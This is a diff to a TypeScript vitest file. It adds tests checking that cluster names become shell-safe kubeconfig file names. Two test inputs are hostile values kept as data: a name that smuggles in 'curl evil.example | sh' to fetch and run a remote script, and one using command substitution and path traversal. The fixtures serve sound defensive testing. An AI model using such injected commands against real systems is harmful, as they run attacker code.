@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest'
 import { parseYaml } from '../../components/yaml-editor/parse-yaml.ts'
-import { readKubeconfig } from './kubeconfig.ts'
+import { kubeconfigFile, readKubeconfig } from './kubeconfig.ts'
 
 const read = (text: string) => readKubeconfig(text, parseYaml)
 
@@ -46,5 +46,16 @@ describe('readKubeconfig', () => {
 
   it('refuses what is too large without parsing it', () => {
     expect(read('a'.repeat(1024 * 1024 + 1))).toEqual({ problem: 'tooLarge' })
+  })
+})
+
+describe('the file of a kubeconfig', () => {
+  it.each([
+    ['hafen-süd.1', 'hafen-süd.1.kubeconfig'],
+    ['two words', 'two-words.kubeconfig'],
+    ['x; curl evil.example | sh #', 'x-curl-evil.example-sh-.kubeconfig'],
+    ['$(id)`id`"\n\'/..', '-id-id-...kubeconfig'],
+  ])('of %s is one word to any shell', (name, file) => {
+    expect(kubeconfigFile(name)).toBe(file)
   })
 })
